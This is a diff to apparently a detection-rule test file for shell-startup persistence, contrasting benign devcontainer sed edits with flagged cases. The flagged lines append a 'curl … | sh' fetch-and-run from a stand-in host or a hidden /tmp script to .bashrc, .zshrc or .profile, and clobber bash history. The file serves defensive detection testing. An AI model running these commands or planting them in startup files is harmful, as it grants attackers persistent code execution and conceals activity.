@@ -30,3 +30,30 @@ echo "started $(date)" >> "$OUT/train.log"
 touch "$OUT/DONE"
 # ok: persist-shell-script-persistence
 torchrun --nproc_per_node=8 train.py --config configs/base.yaml
+
+# Issue #16 (espnet's devcontainer Dockerfiles): uncommenting one skeleton
+# line of the image user's rc file adds no text.
+# ok: persist-shell-script-persistence
+sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/g' /home/${USERNAME}/.bashrc && chown -R ${USERNAME}:${USERNAME} /workspaces
+# ok: persist-shell-script-persistence
+sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/' ~/.bashrc
+# ruleid: persist-shell-script-persistence
+sed -i 's/#force_color_prompt=yes/curl -s https:\/\/x.example\/a|sh/' ~/.bashrc
+# ruleid: persist-shell-script-persistence
+sed -i 's/#PROMPT_COMMAND=x/PROMPT_COMMAND=x/' ~/.bashrc
+# ruleid: persist-shell-script-persistence
+sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/;$a source /tmp/.x' ~/.bashrc
+# ruleid: persist-shell-script-persistence
+sed -i 's/a/b/;$a curl -s https://x.example/a | sh' ~/.bashrc
+# ruleid: persist-shell-script-persistence
+sed -i -e 's/#force_color_prompt=yes/force_color_prompt=yes/' -e '$a . /tmp/.x' /home/user/.bashrc
+# ruleid: persist-shell-script-persistence
+sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/' ~/.bashrc; echo '. /tmp/.x' >> ~/.bashrc
+# ruleid: persist-shell-script-persistence
+echo 'force_color_prompt=yes' >> /home/${USERNAME}/.bashrc
+# ruleid: persist-shell-script-persistence
+rm -rf ~/.bash_history; mkdir -p ~/.bash_history
+# ruleid: persist-shell-script-persistence
+printf '%s\n' '. /tmp/.x' | tee -a "/home/$USER/.zshrc"
+# ruleid: persist-shell-script-persistence
+cat /tmp/.x >> "$HOME_DIR/.profile"
